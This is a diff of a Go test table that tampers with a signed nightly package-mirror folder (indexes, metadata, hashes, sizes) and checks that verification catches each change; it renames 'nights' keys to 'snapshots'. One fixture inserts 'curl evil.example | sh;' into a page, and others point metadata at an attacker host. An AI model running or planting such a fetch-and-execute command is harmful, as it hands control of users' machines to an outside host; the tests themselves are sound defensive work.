@@ -106,7 +106,7 @@ var tamperings = []tampering{
 		f.renamed()
 	}, nil, "", "what it says of night 2026-11-26 is not what its nightly.json says"},
 	{"an index that keeps a version of a night", func(f folder) {
-		f.replace(f.meta()+"/index.json", `"nights":["2026-11-26","2026-11-25"]`, `"nights":["2026-11-26"]`)
+		f.replace(f.meta()+"/index.json", `"snapshots":["2026-11-26","2026-11-25"]`, `"snapshots":["2026-11-26"]`)
 		f.renamed()
 	}, nil, "", "it says of acme/language 1.0.0"},
 	{"an index for another URL", func(f folder) {
@@ -115,7 +115,7 @@ var tamperings = []tampering{
 	}, nil, "", "at \"https://evil.example/\""},
 	{"an index of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/index.json") }, nil, "", "has no index.json"},
 	{"a file of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/acme/module-a.json") }, nil, "", "is missing"},
-	{"an old folder of other nights", func(f folder) { f.replace(f.superseded()+"/nights.json", "2026-11-25", "2026-11-23") }, nil, "", "and the index.json beside it others"},
+	{"an old folder of other nights", func(f folder) { f.replace(f.superseded()+"/snapshots.json", "2026-11-25", "2026-11-23") }, nil, "", "and the index.json beside it others"},
 	{"metadata that was changed", func(f folder) { f.replace(f.meta()+"/acme/module-a.json", "psr/log", "psr/gol") }, nil, "", "does not have the content that it is named by"},
 	{"metadata of the night with another host", func(f folder) { f.replace(n3+"p2/acme/module-a.json", base, "https://evil.example/") }, nil, n3 + "p2/acme/module-a.json", "Composer would get the dist"},
 	{"metadata of the night with another hash", func(f folder) { f.replace(n3+"p2/acme/module-a.json", `"shasum":"`, `"shasum":"0`) }, nil, n3 + "p2/acme/module-a.json", "the dist's SHA-1 is"},
@@ -139,7 +139,7 @@ var tamperings = []tampering{
 	{"an extra file of a night", func(f folder) { f.write(n3+"p2/acme/evil.json", "{}") }, nil, n3 + "p2/acme/evil.json", "is no part of the repository"},
 	{"an extra night", func(f folder) { f.write("nights/2026-11-27/packages.json", f.read(n3+"packages.json")) }, nil, "nights/2026-11-27/nightly.json", "is missing"},
 	{"a page that tells another command", func(f folder) { f.replace("index.html", "composer ", "curl evil.example | sh; ") }, nil, "index.html", "was signed"},
-	{"a status of another night", func(f folder) { f.replace("status.json", `"night": "2026-11-26"`, `"night": "2026-11-25"`) }, nil, "status.json", "one of them is older"},
+	{"a status of another night", func(f folder) { f.replace("status.json", `"snapshot": "2026-11-26"`, `"snapshot": "2026-11-25"`) }, nil, "status.json", "one of them is older"},
 	{"an index of 2 GB", func(f folder) { f.sparse("packages.json", 2<<30) }, nil, "packages.json", "is longer than the 4194304 bytes"},
 	{"metadata of 2 GB", func(f folder) { f.sparse(n3+"p2/acme/module-a.json", 2<<30) }, nil, n3 + "p2/acme/module-a.json", "is longer than"},
 	{"a signature of 2 GB", func(f folder) { f.sparse("packages.dsse.json", 2<<30) }, nil, "packages.dsse.json", "is longer than"},
